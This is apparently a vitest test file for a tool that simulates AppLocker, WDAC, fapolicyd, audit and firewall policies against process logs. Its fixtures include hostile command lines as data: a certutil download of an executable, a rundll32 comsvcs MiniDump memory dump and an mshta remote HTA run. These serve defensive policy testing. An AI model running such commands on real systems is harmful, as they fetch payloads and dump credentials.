import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { whatran } from "../support/io.ts";
import { folder } from "../support/logs.ts";
import { MSHTA, NOTEPAD, SYSTEM32, start } from "./starts.ts";

const dir = folder();
afterAll(() => dir.remove());

const CERTUTIL = {
  Image: `${SYSTEM32}\\certutil.exe`,
  OriginalFileName: "CertUtil.exe",
  CommandLine: "certutil.exe -urlcache -f https://files.example.net/a.exe C:\\Users\\ann\\a.exe",
};
const RUNDLL32 = {
  Image: `${SYSTEM32}\\rundll32.exe`,
  OriginalFileName: "RUNDLL32.EXE",
  CommandLine: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 512 C:\\Windows\\Temp\\a.dmp full",
};
const OWN = { Image: "C:\\Users\\ann\\tool.exe", OriginalFileName: "tool.exe" };
const logs = dir.write(
  "log.ndjson",
  `${[NOTEPAD, MSHTA, CERTUTIL, RUNDLL32, OWN].map((one) => start(one)).join("\n")}\n`,
);
const linux = (path: string, user = "ann") =>
  JSON.stringify({
    "@timestamp": "2024-05-02T09:14:55.120Z",
    event: { category: ["process"], type: ["start"], kind: "event" },
    host: { name: "lx-1", os: { family: "linux", type: "linux" } },
    user: { name: user },
    process: { command_line: path, executable: path, name: path.split("/").at(-1), pid: 4711, entity_id: path },
  });
const linuxLogs = dir.write(
  "linux.ndjson",
  `${["/usr/bin/ls", "/home/ann/tool", "/home/ann/tool.sh", "/usr/lib64/ld-linux-x86-64.so.2"].map((one) => linux(one)).join("\n")}\n`,
);

interface Line {
  readonly source: { readonly index: number };
  readonly decision: string;
  readonly reason: string;
}

async function decided(policy: string, path = logs): Promise<ReadonlyMap<number, Line>> {
  const { out, code, err } = await whatran(["simulate", "-P", policy, path, "-t", "ndjson", "-q"]);
  expect(code, err).toBe(0);
  const lines = out
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Line);
  return new Map(lines.map((line) => [line.source.index, line]));
}

const decisions = async (policy: string, path?: string) => {
  const lines = await decided(policy, path);
  return [0, 1, 2, 3, 4].map((at) => lines.get(at)?.decision);
};

describe("AppLocker as Get-AppLockerPolicy -Effective gives it", () => {
  const allow = (path: string, sid: string) =>
    `<FilePathRule Id="${path}${sid}" Name="(Default Rule) ${path}" Description="" UserOrGroupSid="${sid}" Action="Allow"><Conditions><FilePathCondition Path="${path}"/></Conditions></FilePathRule>`;
  const all = [allow("%PROGRAMFILES%\\*", "S-1-1-0"), allow("%WINDIR%\\*", "S-1-1-0"), allow("*", "S-1-5-32-544")].join(
    "",
  );
  const text = `<AppLockerPolicy Version="1"><RuleCollection Type="Exe" EnforcementMode="Enabled">${all}</RuleCollection><RuleCollection Type="Dll" EnforcementMode="NotConfigured"/><RuleCollection Type="ManagedInstaller" EnforcementMode="AuditOnly">${all}</RuleCollection></AppLockerPolicy>`;

  it("decides by its default rules, whatever is a managed installer", async () => {
    expect(await decisions(dir.write("applocker.xml", text))).toEqual(["allow", "allow", "allow", "allow", "block"]);
  });

  it("is read in UTF-16 with its mark", async () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    expect(await decisions(dir.write("applocker16.xml", bytes as unknown as string))).toEqual(
      await decisions(dir.write("applocker.xml", text)),
    );
  });

  it("lists within a minute what of T1218 passes, each with its proof", async () => {
    const policy = dir.write("applocker.xml", text);
    const { out } = await whatran(["simulate", "-P", policy, logs, "-t", "table", "-q"]);
    expect(out).toContain("mshta.exe: allowed by “(Default Rule) %WINDIR%\\*”");
    expect(out).toMatch(/Runs an HTML application from another machine \(T1218\.005/);
    expect(out).toContain("mshta.exe https://files.example.net/a.hta");
  });
});

describe("App Control that allows what Windows signed", () => {
  const policy = (
    mode: string,
  ) => `<SiPolicy xmlns="urn:schemas-microsoft-com:sipolicy" PolicyType="Base Policy"><VersionEx>10.0.0.0</VersionEx>
<Rules><Rule><Option>Enabled:UMCI</Option></Rule>${mode}</Rules>
<EKUs><EKU ID="ID_EKU_WINDOWS" Value="010A2B0601040182370A0306"/></EKUs><FileRules/>
<Signers><Signer ID="ID_SIGNER_WINDOWS" Name="Microsoft Product Root 2010 Windows EKU"><CertRoot Type="Wellknown" Value="06"/><CertEKU ID="ID_EKU_WINDOWS"/></Signer></Signers>
<SigningScenarios><SigningScenario Value="12" ID="ID_USER"><ProductSigners><AllowedSigners><AllowedSigner SignerId="ID_SIGNER_WINDOWS"/></AllowedSigners></ProductSigners></SigningScenario></SigningScenarios>
<UpdatePolicySigners/><CiSigners/><HvciOptions>0</HvciOptions><PolicyID>{A244370E-44C9-4C06-B551-F6016E563076}</PolicyID><BasePolicyID>{A244370E-44C9-4C06-B551-F6016E563076}</BasePolicyID></SiPolicy>`;

  it("lets programs of the catalogue pass where Windows has them, and MSHTA never", async () => {
    const lines = await decided(dir.write("wdac.xml", policy("")));
    expect(lines.get(1)).toMatchObject({ decision: "block", reason: expect.stringContaining("MSHTA") });
    expect(lines.get(2)?.decision).toBe("allow");
    expect(lines.get(4)).toMatchObject({ decision: "undecided", reason: expect.stringContaining("signer") });
  });

  it("is refused in a form that is not known", async () => {
    const path = dir.write("wdac9.xml", policy("").replace("com:sipolicy", "com:sipolicy9"));
    const { code, err } = await whatran(["simulate", "-P", path, logs]);
    expect(code).toBe(2);
    expect(err).toContain("line 1, column 1: the namespace urn:schemas-microsoft-com:sipolicy9");
  });

  it("says of an audited policy that nothing is stopped, and what is open", async () => {
    const lines = await decided(dir.write("wdac.xml", policy("<Rule><Option>Enabled:Audit Mode</Option></Rule>")));
    expect(lines.get(2)?.decision).toBe("allow");
    expect(lines.get(4)).toMatchObject({ decision: "audit", reason: expect.stringContaining("nothing is stopped") });
  });
});

describe("fapolicyd as its package has it", () => {
  const parts = {
    "10-languages.rules": "%languages=text/x-python,text/x-perl\n",
    "30-patterns.rules": "# No program starts through the loader\ndeny_audit perm=any pattern=ld_so : all\n",
    "40-bad-elf.rules": "deny_audit perm=any all : ftype=application/x-bad-elf\n",
    "42-trusted-elf.rules": "allow perm=execute all : trust=1\n",
    "70-trusted-lang.rules":
      "allow perm=open all : ftype=%languages trust=1\ndeny_audit perm=any all : ftype=%languages\n",
    "72-shell.rules": "allow perm=any all : ftype=text/x-shellscript\n",
    "90-deny-execute.rules": "deny_audit perm=execute all : all\n",
    "95-allow-open.rules": "allow perm=open all : all\n",
  };
  const rules = join(dir.path, "rules.d");
  mkdirSync(rules);
  for (const [name, text] of Object.entries(parts)) dir.write(`rules.d/${name}`, text);

  it("is one list, in the order of its files’ names", async () => {
    const found = await decided(rules, linuxLogs);
    expect([0, 1, 2, 3].map((at) => found.get(at)?.decision)).toEqual(["allow", "undecided", "allow", "block"]);
    expect(found.get(1)?.reason).toContain("type is not logged");
    const compiled = dir.write("compiled.rules", Object.values(parts).join(""));
    expect([...(await decided(compiled, linuxLogs)).values()].map(({ decision }) => decision)).toEqual(
      [...found.values()].map(({ decision }) => decision),
    );
  });

  it("has parts whose names begin without a number, behind the others", async () => {
    mkdirSync(join(dir.path, "parts"));
    dir.write("parts/10-first.rules", "allow perm=any all : all\n");
    dir.write("parts/site.rules", "deny perm=any all : all\n");
    const found = await decided(join(dir.path, "parts"), linuxLogs);
    expect(new Set([...found.values()].map(({ decision }) => decision))).toEqual(new Set(["allow"]));
  });
});

describe("a folder of audit rules", () => {
  it("is put together as augenrules does: one list, numbers in names count, deleting comes first", async () => {
    const rules = join(dir.path, "audit.d");
    mkdirSync(rules);
    dir.write("audit.d/9-first.rules", "-D\n-a never,exit -F arch=b64 -S execve -F exe=/usr/bin/ls\n-e 1\n");
    dir.write("audit.d/10-all.rules", "-D\n-a always,exit -F arch=b64 -S execve\n");
    const found = await decided(rules, linuxLogs);
    const answers = new Set([...found.values()].map(({ decision }) => decision));
    expect(answers).toEqual(new Set(["allow", "audit"]));
  });
});

describe("Windows Firewall’s exports", () => {
  const netsh = `
Rule Name:                            Block certutil
----------------------------------------------------------------------
Enabled:                              Yes
Direction:                            Out
Profiles:                             Domain,Private,Public
Grouping:
LocalIP:                              Any
RemoteIP:                             Any
Protocol:                             Any
Program:                              C:\\Windows\\System32\\certutil.exe
InterfaceTypes:                       Any
Security:                             NotRequired
Action:                               Block
`;
  const table = `"Name","DisplayName","Enabled","Direction","Action","Program","Protocol","RemotePort","RemoteAddress"
"{1}","Block certutil","True","Outbound","Block","C:\\Windows\\System32\\certutil.exe","Any","Any","Any"
"{2}","Off","False","Outbound","Block","C:\\Windows\\System32\\mshta.exe","Any","Any","Any"
`;
  const objects = [
    {
      Name: "{1}",
      DisplayName: "Block certutil",
      Enabled: 1,
      Profile: 0,
      Direction: 2,
      Action: 4,
      Program: CERTUTIL.Image,
    },
    { Name: "{2}", Enabled: 2, Direction: 2, Action: 4, Program: MSHTA.Image },
  ];

  it.each([
    ["netsh’s listing", "rules.txt", netsh],
    ["a table", "rules.csv", table],
    ["a table with semicolons", "rules2.csv", table.replaceAll(",", ";")],
    ["JSON of PowerShell", "rules.json", JSON.stringify(objects)],
  ])("block by %s", async (_, name, text) => {
    const lines = await decided(dir.write(name, text));
    expect([...lines].map(([at, { decision }]) => [at, decision])).toEqual([[2, "block"]]);
  });

  it("leave open what a listing without programs does not say", async () => {
    const text = "Name : {1}\nDisplayName : Block something\nEnabled : True\nDirection : Outbound\nAction : Block\n";
    const lines = await decided(dir.write("bare.txt", text));
    expect(lines.get(2)).toMatchObject({
      decision: "undecided",
      reason: expect.stringContaining("whose program is not in this export"),
    });
  });

  it("are refused in the binary form, with what to export instead", async () => {
    const path = dir.write("export.wfw", "\u0001\u0000\u0002");
    const { code, err } = await whatran(["simulate", "-P", path, logs]);
    expect(code).toBe(2);
    expect(err).toContain("show rule name=all verbose");
  });
});
